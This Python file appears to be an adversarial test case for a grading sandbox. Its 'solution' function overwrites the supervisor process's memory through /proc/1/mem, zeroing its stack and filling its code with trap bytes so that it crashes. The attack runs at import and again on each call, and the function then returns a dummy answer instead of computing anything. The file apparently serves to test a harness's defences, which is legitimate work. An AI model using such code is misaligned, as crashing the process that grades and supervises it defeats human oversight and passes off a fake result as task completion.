"""Writes into the supervisor's (PID 1's) memory through /proc/1/mem: zeros over its stack,
traps over its code. The supervisor crashes, and with it every later call, unless its memory
cannot be opened (reading or writing the supervisor's memory)."""
# effdl-attack: threat=supervisor build=cell tag=answer expect_lost=a2.closed_form feedback_contains="entries differ"

import os


def wreck_supervisor():
    try:
        with open("/proc/1/maps") as fh:
            maps = [line.split() for line in fh]
        mem = os.open("/proc/1/mem", os.O_RDWR)
    except OSError:
        return
    for fields in maps:
        start, end = (int(x, 16) for x in fields[0].split("-"))
        name = fields[5] if len(fields) > 5 else ""
        fill = b"\0" if name == "[stack]" else b"\xcc" if "x" in fields[1] else None
        if fill is None:
            continue
        for offset in range(start, min(end, start + 2**22), 2**16):
            try:
                os.pwrite(mem, fill * 2**16, offset)
            except OSError:
                break
    os.close(mem)


wreck_supervisor()


def closed_form(X, y):
    wreck_supervisor()
    return [0.0, 0.0, 0.0]
